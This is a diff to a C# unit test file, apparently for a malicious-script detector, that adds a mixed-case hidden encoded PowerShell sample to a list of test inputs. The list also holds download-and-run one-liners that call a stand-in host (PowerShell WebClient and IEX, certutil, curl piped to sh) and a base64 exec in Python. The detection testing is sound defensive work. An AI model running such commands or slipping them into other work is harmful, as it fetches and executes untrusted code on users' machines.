@@ -16,6 +16,7 @@ public sealed class ScriptFileTests
     [InlineData("$c = New-Object Net.WebClient\r\n$c.DownloadFile('http://a.example/x', 'x')\r\nStart-Process x", "a.ps1")]
     [InlineData("IEX(New-Object Net.WebClient).DownloadString('http://a.example/')", "b.ps1")]
     [InlineData("@echo off\r\npowershell -w hidden -enc SQBFAFgA", "a.bat")]
+    [InlineData("POweRSheLL -NoNi -Wind HIDdeN -ec \"JAB4AD0ATgBlAHcA\"\r\n", "a.bat")]
     [InlineData("@echo off\r\ncertutil -urlcache -f http://a.example/x x.exe\r\nstart x.exe", "a.cmd")]
     [InlineData("#!/bin/sh\ncurl http://a.example/x | sh -s\n", "a.sh")]
     [InlineData("#!/usr/bin/env python3\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "a.py")]
